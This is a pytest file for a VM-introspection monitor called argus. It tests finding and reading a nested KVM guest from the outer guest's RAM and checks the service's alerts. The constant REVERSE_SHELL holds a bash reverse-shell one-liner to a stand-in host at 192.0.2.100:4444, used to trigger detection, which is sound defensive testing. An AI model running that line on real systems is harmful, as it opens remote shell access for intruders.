"""Guests inside a monitored host: a test guest (the outer, QEMU TCG with
AMD SVM emulated) runs a KVM guest of its own (the inner), and argus, given
only the outer guest's RAM file, finds the inner guest in the outer
kernel's memory (its QEMU process, its struct kvm's memslots read with the
kvm module's BTF, its page tables) and reads the inner kernel through it:
`guest:NAME@qemu:OUTER.ram`.  The memslots' layout is compared with the RAM
mappings' (the fallback), which an inner QEMU under TCG (no KVM) gets.

The inner guest's processes must match its own /proc (argus-truth, run
inside it through a relay in the outer guest); a reverse shell started in
it is alerted by the service, its QEMU stopping is told, and a second
inner guest of the same name is picked up.  The outer guest stopped dead
once in 13 boots while an inner one started (GUEST.md): one retry.
"""
import time

import pytest

from conftest import Service, run_argus, assert_kernel_read
from guest import GuestError
from nested import Inner, outer_guest
from test_ps import argus_ps, compare, truth

# to a program in the outer guest, through the inner's user-mode network
# (nested/run-inner): another machine, for the inner guest
REVERSE_SHELL = "bash -c 'exec bash -i >& /dev/tcp/192.0.2.100/4444 0>&1'"

SLEEP = "500ms"
TRACING = "/sys/kernel/tracing"


def boot(tag):
    outer = outer_guest(f"nest{tag}")
    t0 = time.monotonic()
    outer.start(timeout=120)
    outer_s = time.monotonic() - t0
    inner = Inner(outer, "inner1").start(timeout=90)
    print(f"outer ready in {outer_s:.1f} s, inner in {inner.boot_seconds:.1f} s")
    return outer, inner


@pytest.fixture(scope="module")
def nested():
    import os
    tag = os.getpid()
    try:
        outer, inner = boot(tag)
    except GuestError as e:
        print(f"nested guests did not come up ({e}); once more")
        outer_guest(f"nest{tag}").stop()
        outer, inner = boot(tag)
    try:
        yield outer, inner
    finally:
        inner.stop()
        outer.stop()


def source(outer, sel="inner1"):
    return f"guest:{sel}@qemu:{outer.ram_path}"


def test_inner_processes_match_its_proc(nested):
    outer, inner = nested
    marker = inner.spawn("exec sleep 4242")
    before = truth(inner)
    seen = argus_ps(source(outer))
    after = truth(inner)
    bad, churn = compare(before, seen, after)
    assert not bad, "\n".join(bad)
    assert seen[marker]["name"] == "sleep", seen.get(marker)
    assert seen[1]["name"] == "argus-ctl"
    # the inner guest's list, not the outer's: the outer's QEMU is not in it
    vmm = inner.pid
    outer_ps = argus_ps(f"qemu:{outer.ram_path}")
    assert outer_ps[vmm]["name"].startswith("qemu-system"), outer_ps.get(vmm)
    assert vmm not in seen or not seen[vmm]["name"].startswith("qemu-system")
    # by its VMM's pid as well
    assert set(argus_ps(source(outer, str(vmm)))) >= set(before) & set(after)


def test_no_such_guest(nested):
    outer, _ = nested
    p = run_argus("ps", "--source", source(outer, "nope"), check=False)
    assert p.returncode == 1 and "no VM nope runs there (1 VM found)" in p.stderr, p.stderr


def guests(outer, *args):
    """`argus guests` of the outer guest: {pid: (name, route, [(gpa, end, hva)], error)}."""
    out = run_argus("guests", "--source", f"qemu:{outer.ram_path}", *args).stdout
    vms, cur = {}, None
    for line in out.splitlines():
        if not line.startswith("\t"):
            pid, name, _uuid = line.split("\t")
            cur = vms[int(pid)] = {"name": name, "route": None, "ranges": [], "error": None}
        elif line.startswith("\troute: "):
            cur["route"] = line[len("\troute: "):]
        elif line.startswith("\tguest-physical "):
            span, _, hva = line[len("\tguest-physical "):].partition(" at ")
            lo, hi = span.split("-")
            cur["ranges"].append((int(lo, 16), int(hi, 16), int(hva, 16)))
        else:
            cur["error"] = line.strip()
    return vms


def test_guests_lists_the_inner_vm(nested):
    """KVM's memslots give the inner guest's layout, and the RAM mappings
    (the fallback) agree with them."""
    outer, inner = nested
    kvm = guests(outer)[inner.pid]
    assert kvm["name"] == "inner1" and not kvm["error"], kvm
    assert kvm["route"].startswith("KVM memslots (struct kvm at 0xffff"), kvm["route"]
    assert f"{len(kvm['ranges'])} slots)" in kvm["route"], kvm
    assert guests(outer, "--route", "kvm")[inner.pid]["ranges"] == kvm["ranges"]
    maps = guests(outer, "--route", "maps")[inner.pid]
    assert maps["route"] == "RAM mappings (as asked)", maps
    # q35 with 128 MiB: all of it from guest-physical 0, in the VMM's memory
    assert len(maps["ranges"]) == 1 and maps["ranges"][0][:2] == (0, 128 << 20), maps
    ram_hva = maps["ranges"][0][2]
    # each slot in that RAM lies where the fallback puts its guest-physical
    # address; together they are all of it (no VGA window: -vga none)
    in_ram = [r for r in kvm["ranges"] if ram_hva <= r[2] < ram_hva + (128 << 20)]
    for lo, hi, hva in in_ram:
        assert hva - ram_hva == lo and hva + (hi - lo) <= ram_hva + (128 << 20), \
            (hex(lo), hex(hi), hex(hva), hex(ram_hva))
    assert sum(hi - lo for lo, hi, _ in in_ram) == 128 << 20, kvm["ranges"]
    # the rest are ROM (the BIOS at the top of 4 GiB), outside the RAM
    others = [r for r in kvm["ranges"] if r not in in_ram]
    assert others and all(lo >= 0xfff00000 for lo, _, _ in others), others
    print(f"KVM: {len(kvm['ranges'])} slots ({len(in_ram)} of RAM); "
          f"the RAM mappings: {maps['ranges']}")


def test_tcg_inner_uses_the_ram_mappings(nested):
    """An inner QEMU without KVM (TCG): no kvm-vm file, so the RAM mappings,
    and the route says why; --route kvm has nothing to give."""
    outer, inner = nested
    pid = int(outer.check("/bin/nested/run-inner tcg1 64 tcg", timeout=30))
    try:
        vm = guests(outer)[pid]
        assert vm["name"] == "tcg1" and not vm["error"], vm
        assert vm["route"] == "RAM mappings (KVM's memslots not used: no KVM: no kvm-vm file)", vm
        assert len(vm["ranges"]) == 1 and vm["ranges"][0][:2] == (0, 64 << 20), vm
        assert vm == guests(outer, "--route", "maps")[pid] | {"route": vm["route"]}
        only = guests(outer, "--route", "kvm")[pid]
        assert not only["ranges"] and "no kvm-vm file" in only["error"], only
        assert only["route"] == "none (KVM's memslots asked for, not read)", only
        # the KVM guest beside it keeps its route
        assert guests(outer)[inner.pid]["route"].startswith("KVM memslots"), guests(outer)
    finally:
        outer.run(f"kill -9 {pid}; for i in $(seq 100); do kill -0 {pid} 2>/dev/null || break; "
                  f"sleep 0.05; done")


class Named:
    name = "inner1"


def test_service_alerts_inside_and_sees_it_go_and_come(nested, tmp_path):
    outer, inner = nested
    svc = Service(tmp_path, Named, sleep=SLEEP, source=source(outer))
    try:
        since = 0       # from the start: the inner guest's first scans count too
        pid = inner.spawn("exec sleep 31")
        assert svc.wait_for(lambda m: m["activity_data"]["name"] == "Process Created" and
                            m["activity_data"]["process_details"]["process_id"] == pid,
                            timeout=15), "a process born in the inner guest was not seen"
        inner.spawn(REVERSE_SHELL)
        assert svc.wait_for(lambda m: m["activity_data"]["name"] == "Reverse Shell Detected",
                            timeout=20), "the reverse shell in the inner guest was not alerted"
        svc.expect_alerts(since, ("Reverse Shell Detected", None, 1))

        # its QEMU stops: told
        inits = sum(m["activity_data"]["name"] == "Host Initialization Successful"
                    for m in svc.messages)
        since = svc.mark()
        inner.stop()
        assert svc.wait_for(lambda m: m["activity_data"]["name"] == "Details Gathering Failed"
                            and "is gone" in m["activity_data"]["system_activity_details"]
                            ["description"], timeout=20), "the inner guest's end was not told"
        # a second inner guest of the same name: found and monitored
        inner.start(timeout=90)
        assert len(svc.wait_for(lambda m: m["activity_data"]["name"] ==
                                "Host Initialization Successful", timeout=90,
                                count=inits + 1)) > inits, \
            "the second inner guest was not picked up"
        time.sleep(2 * svc.sleep_s)
        pid = inner.spawn("exec sleep 32")
        assert svc.wait_for(lambda m: m["activity_data"]["name"] == "Process Created" and
                            m["activity_data"]["process_details"]["process_id"] == pid,
                            timeout=15), "a process born in the second inner guest was not seen"
        svc.expect_alerts(since)        # the end and the new boot: no alert
    finally:
        svc.stop(check_alerts=False)



def named(m, name, activity=None):
    return (m["workload_information"]["unique_identifier"] == name and
            (activity is None or m["activity_data"]["name"] == activity))


def gone_told(m, name):
    return (named(m, name, "Details Gathering Failed") and
            "is gone" in m["activity_data"]["system_activity_details"]["description"])


def test_service_finds_the_inner_vms_by_itself(nested, tmp_path):
    """Only the outer guest configured, no guest: source: auto_scan (on by
    default) makes each VM the outer machine runs a system of its own,
    OUTER/NAME, read as guest:PID@OUTER's source; lets it go when its QEMU
    ends, and finds one started later."""
    outer, inner = nested
    me = f"{outer.name}/inner1"
    t0 = time.monotonic()
    svc = Service(tmp_path, outer, sleep=SLEEP)
    try:
        ok = svc.wait_for(lambda m: named(m, me, "Host Initialization Successful"), timeout=60)
        assert ok, f"{me} was never initialized; see {svc.dir}"
        print(f"{me} initialized {time.monotonic() - t0:.1f} s after the service started")
        desc = ok[0]["activity_data"]["system_activity_details"]["description"]
        assert ", guest layout: KVM memslots (struct kvm at 0x" in desc, desc
        started = [m for m in svc.messages if named(m, me, "Host Initialization Started")]
        desc = started[0]["activity_data"]["system_activity_details"]["description"]
        assert f"guest:{inner.pid}@{outer.source}" in desc, desc
        assert f"found VM {me} (pid {inner.pid} in {outer.name})" in svc.stdout()

        # monitored: a process born inside, and a reverse shell (one alert)
        time.sleep(2 * svc.sleep_s)
        since = svc.mark()
        pid = inner.spawn("exec sleep 33")
        assert svc.wait_for(lambda m: named(m, me, "Process Created") and
                            m["activity_data"]["process_details"]["process_id"] == pid,
                            timeout=15), "a process born in the inner guest was not seen"
        inner.spawn(REVERSE_SHELL)
        assert svc.wait_for(lambda m: named(m, me, "Reverse Shell Detected"), timeout=20), \
            "the reverse shell in the inner guest was not alerted"
        time.sleep(2 * svc.sleep_s + 0.2)
        svc.poll()
        alerts = [m["activity_data"]["name"] for m in svc.messages[since:]
                  if m["message_type"] == "ALERT" and named(m, me) and
                  m["activity_data"]["name"] not in Service.ROUTINE_ALERTS]
        assert alerts == ["Reverse Shell Detected"], alerts

        # its QEMU killed: told once, then nothing more of it
        vmm = inner.pid
        t1 = time.monotonic()
        inner.stop()
        assert svc.wait_for(lambda m: gone_told(m, me), timeout=20), \
            "the inner guest's end was not told"
        print(f"its end told {time.monotonic() - t1:.1f} s after its QEMU was killed")
        time.sleep(3)
        svc.poll()
        n = sum(named(m, me) for m in svc.messages)
        time.sleep(5)
        svc.poll()
        assert sum(named(m, me) for m in svc.messages) == n, "activity after the VM stopped"
        assert sum(gone_told(m, me) for m in svc.messages) == 1
        # the end told, and nothing after it (no retried host initialization)
        told = next(i for i, m in enumerate(svc.messages) if gone_told(m, me))
        after = [m["activity_data"]["name"] for m in svc.messages[told + 1:] if named(m, me)]
        assert not after, f"after its end was told: {after}"
        assert f"VM {me} (pid {vmm} in {outer.name}) stopped: no longer monitored" \
            in svc.stdout(), svc.stdout()[-2000:]

        # a second inner guest (a new QEMU of the same name), started later: found too
        t2 = time.monotonic()
        inner.start(timeout=120)
        assert svc.wait_for(lambda m: named(m, me, "Host Initialization Successful"),
                            timeout=60, count=2)[1:], f"the second {me} was never initialized"
        print(f"the second {me} initialized {time.monotonic() - t2:.1f} s after its QEMU was "
              f"started ({inner.boot_seconds:.1f} s until it answered)")
        started = [m for m in svc.messages if named(m, me, "Host Initialization Started")]
        desc = started[-1]["activity_data"]["system_activity_details"]["description"]
        assert f"guest:{inner.pid}@{outer.source}" in desc and inner.pid != vmm, desc
        time.sleep(2 * svc.sleep_s)
        pid = inner.spawn("exec sleep 34")
        assert svc.wait_for(lambda m: named(m, me, "Process Created") and
                            m["activity_data"]["process_details"]["process_id"] == pid,
                            timeout=15), "a process born in the second inner guest was not seen"
        # from the start, the outer guest too: that one shell, nothing else
        svc.expect_alerts(0, ("Reverse Shell Detected", None, 1))
    finally:
        svc.stop(check_alerts=False)


def test_kvm_vendor_module_loaded_while_watched_raises_nothing(nested, tmp_path):
    """The outer guest watched while kvm is loaded alone, then kvm-amd: kvm
    defines kvm_x86_ops' static calls, whose trampolines lie in kvm's own
    text, and kvm-amd's load writes a jmp to its function into each.  Those
    are sites of the kernel's own, judged as static call trampolines (into
    a listed module: fine); the build before read each as "module text
    differs from its first sight", a false CRITICAL when argus saw kvm
    before kvm-amd came.  Then the inner guest starts again while watched,
    with kvm's trace events on (their static keys rewrite jump sites in
    both modules' text): nothing either."""
    outer, inner = nested
    inner.stop()
    outer.check("rmmod kvm_amd; rmmod kvm")
    svc = Service(tmp_path, outer, sleep=SLEEP)
    try:
        mod = lambda name: lambda a: a.get("kernel_module_details", {}).get("kernel_module_name") == name
        since = svc.mark()
        outer.check("insmod /bin/nested/kvm/kvm.ko")
        assert svc.wait_for(lambda m: m["activity_data"]["name"] == "Kernel Module Loaded" and
                            mod("kvm")(m["activity_data"]), timeout=30), "kvm never seen loaded"
        time.sleep(4 * svc.sleep_s)     # kvm's first sight, its trampolines empty
        outer.check("insmod /bin/nested/kvm/kvm-amd.ko")
        assert svc.wait_for(lambda m: m["activity_data"]["name"] == "Kernel Module Loaded" and
                            mod("kvm_amd")(m["activity_data"]), timeout=30), "kvm_amd never seen loaded"
        assert " __SCT__kvm_x86_vcpu_run" in outer.check("grep __SCT__kvm_x86_vcpu_run /proc/kallsyms")
        time.sleep(20 * svc.sleep_s)    # passes of the modules' window over kvm's text
        svc.expect_alerts(since)
        assert_kernel_read(outer)
        # a VM started while watched, with kvm's trace events on (perf kvm
        # stat, trace-cmd -e kvm): each event's static key flips the jump
        # sites in kvm's text and in kvm-amd's, whose calls to kvm's
        # tracepoints are jump sites of kvm-amd's own on kvm's keys
        outer.check(f"mountpoint -q {TRACING} || mount -t tracefs none {TRACING}; "
                    f"echo 1 >{TRACING}/events/kvm/enable")
        inner.start(timeout=90)
        hits = int(outer.check(f"grep -c kvm_entry {TRACING}/trace || true").strip() or 0)
        assert hits > 0, "kvm's trace events were not on while the VM ran"
        time.sleep(4 * svc.sleep_s)
        outer.check(f"echo 0 >{TRACING}/events/kvm/enable; echo >{TRACING}/trace")
        time.sleep(20 * svc.sleep_s)
        svc.expect_alerts(since)
    finally:
        svc.stop()
        outer.run(f"echo 0 >{TRACING}/events/kvm/enable")
        if not inner.pid:
            inner.start(timeout=90)

